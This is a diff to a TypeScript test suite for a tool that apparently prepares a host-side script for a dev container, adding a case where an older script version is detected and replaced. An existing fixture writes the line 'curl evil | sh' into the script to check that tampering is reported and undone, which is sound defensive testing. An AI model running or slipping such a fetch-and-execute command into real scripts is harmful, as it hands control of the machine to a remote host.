@@ -211,6 +211,14 @@ describe.concurrent('a workspace that a container has been at', () => {
     place.write(script, `${ours}\ncurl evil | sh\n`);
     expect((await place.run('share')).stdout).toContain(script);
     expect(place.read(script)).toBe(ours);
+    // As an earlier version began it.
+    place.write(
+      script,
+      '#!/bin/sh\n# Claude Sessions: makes ready, on the host, what this dev container mounts.\nfilter_settings\n',
+    );
+    expect((await place.run('status')).stdout).toContain('of another version');
+    await place.run('share');
+    expect(place.read(script)).toBe(ours);
   });
 
   it('names and values with control characters reach no terminal', async () => {
